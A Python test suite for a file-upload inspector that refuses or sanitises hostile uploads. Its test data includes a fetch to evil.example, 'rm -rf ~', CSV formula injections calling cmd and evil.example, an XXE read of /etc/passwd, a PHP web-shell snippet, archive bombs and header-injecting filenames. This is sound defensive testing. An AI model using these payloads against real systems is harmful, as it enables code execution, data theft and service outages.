"""Files that somebody sends with intent: each is refused for its reason, or made harmless."""

from __future__ import annotations

import errno
import io
import time

import pytest
from flask import Flask, Response
from PIL import Image, ImageFile

from lms.core.errors import Invalid
from lms.files import actions
from lms.files.queries import StoredFile
from lms.files.rules.inspection import inspect
from lms.files.rules.kinds import Reason, Refused
from lms.files.views import attachment
from tests.files import samples
from tests.files.samples import docx, docx_body, linked, odf, packed_pdf, pdf, picture

LIMIT = 20 * 1024 * 1024
MACRO_TYPES = samples.TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")
JAVASCRIPT = b"9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"
INSTRUCTION = "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r></w:p>"

REFUSED: dict[str, tuple[bytes, str, Reason]] = {
    "nothing at all": (b"", "a.pdf", Reason.EMPTY),
    "a page": (b"<!doctype html><script>alert(1)</script>", "a.html", Reason.WRONG_KIND),
    "a page called a note": (b" \n<HTML><script>alert(1)</script>", "a.txt", Reason.ACTIVE),
    "a drawing with a script": (b"<svg onload='alert(1)'/>", "a.svg", Reason.WRONG_KIND),
    "a drawing called a note": (b"<svg onload='alert(1)'/>", "a.md", Reason.ACTIVE),
    "XML with an entity": (samples.LAUGHS.encode(), "a.xml", Reason.WRONG_KIND),
    "XML called a note": (samples.LAUGHS.encode(), "a.txt", Reason.ACTIVE),
    "a script": (b"fetch('//evil.example')", "a.js", Reason.WRONG_KIND),
    "a shell script called a note": (b"#!/bin/sh\nrm -rf ~", "a.txt", Reason.ACTIVE),
    "a Windows program": (b"MZ\x90\0" + bytes(200), "a.exe", Reason.WRONG_KIND),
    "a Windows program called a PDF": (b"MZ\x90\0" + bytes(200), "a.pdf", Reason.WRONG_KIND),
    "a Windows program called a note": (b"MZ\x90\0" + bytes(200), "a.txt", Reason.WRONG_KIND),
    "a Linux program": (b"\x7fELF\x02" + bytes(200), "a", Reason.WRONG_KIND),
    "a shortcut": (b"[InternetShortcut]\nURL=file:///evil", "a.url", Reason.WRONG_KIND),
    "an archive": (samples.archive({"a.txt": "a"}), "a.zip", Reason.WRONG_KIND),
    "an archive called a document": (samples.archive({"a": "a"}), "a.docx", Reason.WRONG_KIND),
    "a Java archive": (samples.archive({"META-INF/MANIFEST.MF": "a"}), "a.jar", Reason.WRONG_KIND),
    "a book": (samples.archive({"mimetype": "application/epub+zip"}), "a", Reason.WRONG_KIND),
    "a gzip": (b"\x1f\x8b\x08" + bytes(50), "a.gz", Reason.WRONG_KIND),
    "a 7z": (b"7z\xbc\xaf\x27\x1c" + bytes(50), "a.7z", Reason.WRONG_KIND),
    "an old Word document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.doc", Reason.WRONG_KIND),
    "rich text": (b"{\\rtf1\\object}", "a.rtf", Reason.WRONG_KIND),
    "rich text called a note": (b"{\\rtf1\\object}", "a.txt", Reason.ACTIVE),
    "macros by their part": (docx(word__vbaProject_bin=b"\xd0\xcf"), "a.docx", Reason.MACROS),
    "macros by their type": (
        samples.archive({**samples.DOCX, "[Content_Types].xml": MACRO_TYPES}),
        "a.docm",
        Reason.MACROS,
    ),
    "macros behind another name": (linked("vbaProject", "a.bin", mode="Internal"), "a.docx", Reason.MACROS),
    "a sheet of old macros": (
        samples.archive({**samples.XLSX, "xl/macrosheets/sheet1.xml": "<x/>"}),
        "a.xlsx",
        Reason.MACROS,
    ),
    "a control": (docx(word__activeX__a_xml="<x/>"), "a.docx", Reason.MACROS),
    "macros in ODT": (odf(Basic__Standard__m_xml="<x/>"), "a.odt", Reason.MACROS),
    "an event in ODT": (odf(inside="<script:event-listener/>"), "a.odt", Reason.MACROS),
    "a script in ODT": (odf(inside="<office:script/>"), "a.odt", Reason.MACROS),
    "a click that runs": (
        odf("presentation", '<presentation:event-listener presentation:action="execute"/>'),
        "a.odp",
        Reason.ACTIVE,
    ),
    "a field that asks a program": (docx_body(INSTRUCTION), "a.docx", Reason.ACTIVE),
    "a sheet that asks a program": (
        samples.archive({**samples.XLSX, "xl/externalLinks/1.xml": "<x><ddeLink/></x>"}),
        "a.xlsx",
        Reason.ACTIVE,
    ),
    "a template from elsewhere": (linked("attachedTemplate", "http://evil.example/t.dotm"), "a.docx", Reason.OUTSIDE),
    "a picture from elsewhere": (linked("image", "file://evil/share/a.png"), "a.docx", Reason.OUTSIDE),
    "a picture from elsewhere in ODT": (
        odf(inside='<draw:image xlink:href="http://evil.example/a.png"/>'),
        "a.odt",
        Reason.OUTSIDE,
    ),
    "an object inside": (docx(word__embeddings__oleObject1_bin=b"\xd0\xcf"), "a.docx", Reason.EMBEDDED),
    "a program inside": (docx(word__media__a_exe=b"MZ"), "a.docx", Reason.EMBEDDED),
    "an external entity": (
        docx(word__x_xml='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
        "a.docx",
        Reason.ACTIVE,
    ),
    "an external entity in UTF-16": (
        docx(word__x_png='<!DOCTYPE x SYSTEM "http://evil.example"><x/>'.encode("utf-16")),
        "a.docx",
        Reason.ACTIVE,
    ),
    "a billion laughs": (docx(word__x_xml=samples.LAUGHS), "a.docx", Reason.ACTIVE),
    "a zip bomb": (samples.bomb(110), "a.docx", Reason.BOMB),
    "a dense zip bomb": (samples.bomb(30), "a.docx", Reason.BOMB),
    "a zip bomb that lies": (samples.lying_bomb(), "a.docx", Reason.DAMAGED),
    "a crowd of entries": (samples.many_entries(), "a.docx", Reason.BOMB),
    "a path out": (samples.archive({**samples.DOCX, "../../evil": "a"}), "a.docx", Reason.DAMAGED),
    "a path from the root": (samples.archive({**samples.DOCX, "/etc/evil": "a"}), "a.docx", Reason.DAMAGED),
    "a path of Windows": (samples.archive({**samples.DOCX, "..\\evil": "a"}), "a.docx", Reason.DAMAGED),
    "a symbolic link": (samples.linked_out(0o120777), "a.docx", Reason.DAMAGED),
    "a locked document": (samples.encrypted_entry(), "a.docx", Reason.LOCKED),
    "two parts of one name": (samples.doubled(), "a.docx", Reason.DAMAGED),
    "two kinds at once": (samples.archive({**samples.DOCX, **samples.XLSX}), "a.docx", Reason.WRONG_KIND),
    "a page before the document": (b"PK\x03\x04<script>" + docx(), "a.docx", Reason.DAMAGED),
    "half a document": (docx()[:-30], "a.docx", Reason.DAMAGED),
    "a PDF with a script": (pdf(JAVASCRIPT), "a.pdf", Reason.ACTIVE),
    "a PDF that spells its script": (pdf(JAVASCRIPT.replace(b"Java", b"#4aav#61")), "a.pdf", Reason.ACTIVE),
    "a PDF that packs its script": (packed_pdf(JAVASCRIPT), "a.pdf", Reason.ACTIVE),
    "a PDF that starts a program": (pdf(b"9 0 obj<</S/Launch/F(cmd)>>endobj"), "a.pdf", Reason.ACTIVE),
    "a PDF with a file inside": (pdf(b"9 0 obj<</Type/EmbeddedFile>>endobj"), "a.pdf", Reason.EMBEDDED),
    "a locked PDF": (pdf(b"9 0 obj<</Encrypt 3 0 R>>endobj"), "a.pdf", Reason.LOCKED),
    "a PDF bomb": (packed_pdf(bytes(90 * 1024 * 1024)), "a.pdf", Reason.BOMB),
    "half a PDF": (pdf()[:-10], "a.pdf", Reason.DAMAGED),
    "a table that runs": (b"name,value\nx,=cmd|' /C calc'!A0", "a.csv", Reason.FORMULAS),
    "a table that runs behind a plus": (b"x;+a|' /C calc'!A0", "a.csv", Reason.FORMULAS),
    "a table that calls home": (b'"=HYPERLINK(""http://evil.example"")"', "a.csv", Reason.FORMULAS),
    "a table that adds up to it": (b"a\t@SUM(1)*cmd|'x'!A", "a.csv", Reason.FORMULAS),
    "a note with zeros": (b"a\0b", "a.txt", Reason.WRONG_KIND),
    "noise": (samples.noise(3000), "a.md", Reason.WRONG_KIND),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_refused_for_its_reason(case: str) -> None:
    data, name, reason = REFUSED[case]
    with pytest.raises(Refused) as caught:
        inspect(io.BytesIO(data), name)
    assert caught.value.reason is reason


def test_there_are_more_than_twenty_kinds() -> None:
    assert len(REFUSED) > 20


PICTURES_REFUSED: dict[str, tuple[bytes, Reason]] = {
    "a PNG of 900 million pixels": (samples.flat_bomb(), Reason.BOMB),
    "a GIF of 20,000 frames": (samples.many_frames(), Reason.BOMB),
    "half a picture": (picture()[:200], Reason.DAMAGED),
    "only the first bytes of a PNG": (b"\x89PNG\r\n\x1a\n<script>", Reason.DAMAGED),
    "only the first bytes of a GIF": (b"GIF89a=1;alert(1)//", Reason.DAMAGED),
    "another format behind a JPEG's bytes": (b"\xff\xd8\xff" + picture("PNG"), Reason.DAMAGED),
}


def store(data: bytes, name: str = "a.png", limit: int = LIMIT) -> StoredFile:
    return actions.store(io.BytesIO(data), name=name, limit=limit)


@pytest.mark.parametrize("case", PICTURES_REFUSED)
def test_pictures_refused(sqlite_app: Flask, case: str) -> None:
    data, reason = PICTURES_REFUSED[case]
    with pytest.raises(Invalid) as caught:
        store(data)
    assert isinstance(caught.value.__cause__, Refused)
    assert caught.value.__cause__.reason is reason
    assert caught.value.message.endswith(".")


def test_half_a_picture_is_refused_beside_whoever_puts_up_with_it(
    sqlite_app: Flask, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)  # as WeasyPrint does at import
    with pytest.raises(Invalid):
        store(PICTURES_REFUSED["half a picture"][0])


BOMBS = {
    "zip": samples.bomb(110),
    "zip of small ones": samples.bomb(9),
    "lying zip": samples.lying_bomb(),
    "deep markup": samples.deep_markup(),
    "laughs": docx(word__x_xml=samples.LAUGHS),
    "pixels": samples.flat_bomb(),
    "frames": samples.many_frames(),
    "packed PDF": packed_pdf(bytes(90 * 1024 * 1024)),
    "PDF of stream starts": pdf(b"/ObjStm " * 2_000_000),
    "PDF of codes": pdf(b"/#4a#61" * 2_000_000),
    "table of bars": b"+" + b"a|" * 5_000_000,
    "table of signs": b"=" * 10_000_000,
    "table of blanks": b"," + b" " * 10_000_000,
    "note of blanks": b" " * 10_000_000 + b"<",
}


@pytest.mark.parametrize("case", BOMBS)
def test_bombs_cost_less_than_three_seconds(sqlite_app: Flask, case: str) -> None:
    """Processor time, since the machine may be busy with other work."""
    name = "a.csv" if "table" in case else "a.txt" if "note" in case else "a.docx"
    started = time.process_time()
    try:
        store(BOMBS[case], name)
    except Invalid:
        refused = True
    else:
        refused = False
    assert time.process_time() - started < 3
    assert refused or case in {"zip of small ones", "deep markup", "table of bars", "table of signs",
                               "table of blanks", "note of blanks", "PDF of codes"}  # fmt: skip


def test_a_stream_is_not_read_beyond_its_limit(sqlite_app: Flask) -> None:
    class Endless(io.RawIOBase):
        read_bytes = 0

        def read(self, size: int = -1) -> bytes:
            self.read_bytes += size
            return b"a" * size

    stream = Endless()
    with pytest.raises(Invalid, match="larger than 1 MB"):
        actions.store(stream, name="a.txt", limit=1024 * 1024)  # type: ignore[arg-type]
    assert stream.read_bytes < 2 * 1024 * 1024


def test_one_bad_file_loses_no_other(sqlite_app: Flask) -> None:
    uploads = [
        (io.BytesIO(pdf()), "a.pdf"),
        (io.BytesIO(b"MZ\0"), "../b.exe"),
        (io.BytesIO(picture()), "c.png"),
    ]
    stored, refused = actions.store_all(uploads, limit=LIMIT)
    assert [found.name for found in stored] == ["a.pdf", "c.png"]
    assert [found.name for found in refused] == ["b.exe"]


def test_a_full_disk_is_a_clear_answer(sqlite_app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(_handle: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("lms.files.adapters.disk.os.fsync", full)
    with pytest.raises(Invalid, match="cannot be kept at the moment"):
        store(pdf(b"% never seen before"), "a.pdf")


def reopened(stored: StoredFile) -> Image.Image:
    with stored.open() as source:
        found = Image.open(io.BytesIO(source.read()))
    found.load()
    return found


def bytes_of(stored: StoredFile) -> bytes:
    with stored.open() as source:
        return source.read()


def test_a_photo_loses_its_place_and_stands_upright(sqlite_app: Flask) -> None:
    sent = samples.photo_with_place()
    assert b"Amina" in sent
    stored = store(sent, "IMG_1.jpeg")
    kept = bytes_of(stored)
    assert b"Amina" not in kept
    assert b"script" not in kept
    found = reopened(stored)
    assert found.size == (30, 40)
    assert not dict(found.getexif())
    assert (stored.size, stored.content_type) == (len(kept), "image/jpeg")


@pytest.mark.parametrize(
    ("kind", "name"), [("PNG", "a.png"), ("JPEG", "a.jpg"), ("GIF", "a.gif"), ("WEBP", "a.webp")]
)
def test_what_hides_behind_a_picture_is_gone(sqlite_app: Flask, kind: str, name: str) -> None:
    hidden = b"<script>alert(1)</script><?php system($_GET['c']); ?>"
    stored = store(picture(kind) + hidden, name)
    assert b"script" not in bytes_of(stored)
    assert reopened(stored).size == (40, 30)


def test_a_picture_that_is_also_a_script_is_only_a_picture(sqlite_app: Flask) -> None:
    """GIF89a/* … */=1;alert(1) is a picture to one program and a script to another."""
    sent = bytearray(samples.moving(2))
    sent[6:8] = b"/*"
    kept = bytes_of(store(bytes(sent + b"*/=1;alert(1)//"), "a.gif"))
    assert b"alert" not in kept


def test_a_moving_picture_still_moves(sqlite_app: Flask) -> None:
    for kind, name in (("GIF", "a.gif"), ("WEBP", "a.webp")):
        found = reopened(store(samples.moving(4, kind=kind), name))
        assert found.n_frames == 4


@pytest.mark.parametrize("mode", ["1", "L", "P", "RGBA", "LA", "I;16", "CMYK"])
def test_pictures_of_all_modes_are_drawn(sqlite_app: Flask, mode: str) -> None:
    made = io.BytesIO()
    source = Image.new("L", (20, 10), 120)
    picture_ = (
        Image.new(mode, (20, 10))
        if mode == "I;16"
        else source.convert("RGB").convert(mode)
        if mode != "LA"
        else source.convert("LA")
    )
    picture_.save(made, "JPEG" if mode == "CMYK" else "PNG")
    assert reopened(store(made.getvalue(), "a.png")).size == (20, 10)


def test_a_clear_part_stays_clear(sqlite_app: Flask) -> None:
    made = io.BytesIO()
    Image.new("RGBA", (4, 4), (10, 20, 30, 0)).save(made, "PNG")
    assert reopened(store(made.getvalue())).getpixel((0, 0)) == (10, 20, 30, 0)
    made = io.BytesIO()
    flat = Image.new("P", (4, 4), 0)
    flat.putpalette([10, 20, 30, 40, 50, 60])
    flat.putpixel((3, 3), 1)
    flat.save(made, "PNG", transparency=0)
    assert reopened(store(made.getvalue())).convert("RGBA").getpixel((0, 0))[3] == 0


HARMLESS = {
    "a PDF that is also a page": (pdf(b"<script>alert(1)</script>"), "a.html", "a.html.pdf"),
    "a note that holds a page": (b"Note\n<script>alert(1)</script>", "a.txt", "a.txt"),
    "a table with a page": (b"a,b\n<script>alert(1)</script>,2", "a.csv", "a.csv"),
    "a PDF called a program": (pdf(), "report.pdf.exe", "report.pdf.exe.pdf"),
    "a name with a path": (pdf(), "../../etc/cron.d/a.pdf", "a.pdf"),
    "a name with a path of Windows": (pdf(), "C:\\Windows\\a.pdf", "a.pdf"),
    "a name that turns round": (pdf(), "invoice\u202efdp.exe", "invoicefdp.exe.pdf"),
    "a name with a line": (pdf(), "a\r\nSet-Cookie: x=1.pdf", "a Set-Cookie_ x=1.pdf"),
    "a name with a tag": (pdf(), '<img src=x onerror="a">.pdf', "_img src=x onerror=_a__.pdf"),
    "a name of a device": (pdf(), "CON.pdf", "_CON.pdf"),
    "a name without letters": (pdf(), "..", "file.pdf"),
    "an endless name": (pdf(), "a" * 5000 + ".pdf", "a" * 116 + ".pdf"),
}


@pytest.mark.parametrize("case", HARMLESS)
def test_made_harmless(sqlite_app: Flask, case: str) -> None:
    data, name, kept_name = HARMLESS[case]
    stored = store(data, name)
    assert stored.name == kept_name
    with sqlite_app.test_request_context():
        response = attachment(stored)
        assert_harmless(response)
        response.close()


def assert_harmless(response: Response) -> None:
    """A browser saves it and runs nothing, whatever it is."""
    headers = response.headers
    assert headers["Content-Disposition"].startswith("attachment; filename")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert headers["Cache-Control"] == "private, no-store"
    assert response.mimetype not in {"text/html", "image/svg+xml", "application/xml"}
    assert "\n" not in "".join(headers.values())


def test_a_name_in_greek_arrives(sqlite_app: Flask) -> None:
    stored = store(pdf(), "Χάρτης φορέων.pdf")
    with sqlite_app.test_request_context():
        response = attachment(stored)
        assert "filename*=UTF-8''%CE%A7" in response.headers["Content-Disposition"]
        response.close()


GOOD = {
    "DOCX": (docx(), "map.docx"),
    "DOCX with a link to read": (linked("hyperlink", "https://eurocities.eu"), "map.docx"),
    "DOCX with a chart's table": (docx(word__embeddings__a_xlsx=b"PK"), "map.docx"),
    "XLSX": (samples.archive(samples.XLSX), "map.xlsx"),
    "PPTX": (samples.archive(samples.PPTX), "map.pptx"),
    "ODT": (odf(), "map.odt"),
    "ODS": (odf("spreadsheet"), "map.ods"),
    "ODP with a click to the next": (
        odf("presentation", '<presentation:event-listener presentation:action="next-page"/>'),
        "map.odp",
    ),
    "PDF": (pdf(), "map.pdf"),
    "PDF with packed objects": (packed_pdf(b"<</Type/Font>>"), "map.pdf"),
    "note": ("Größe\nκαι\n".encode(), "map.txt"),
    "Markdown": (b"# Map\n\n- a\n", "map.md"),
    "table": ("Stadt;Telefon\nŁódź;+49 (0)30 12\n- Wohnen (neu);-5\n".encode(), "map.csv"),
    "table of an old program": ("Größe;Straße\n".encode("cp1252"), "map.csv"),
    "table in UTF-16": ("Größe\tStraße\n".encode("utf-16"), "map.csv"),
}


@pytest.mark.parametrize("case", GOOD)
def test_good_files_are_kept_byte_for_byte(sqlite_app: Flask, case: str) -> None:
    data, name = GOOD[case]
    stored = store(data, name)
    assert (bytes_of(stored), stored.size, stored.name) == (data, len(data), name)


def test_the_folder_holds_no_name_of_anybody(sqlite_app: Flask) -> None:
    stored = store(pdf(), "Amina.pdf")
    assert stored.path.name == stored.sha256[2:]
    assert stored.path.parent.name == stored.sha256[:2]
    assert not list((stored.path.parent.parent / "incoming").iterdir())
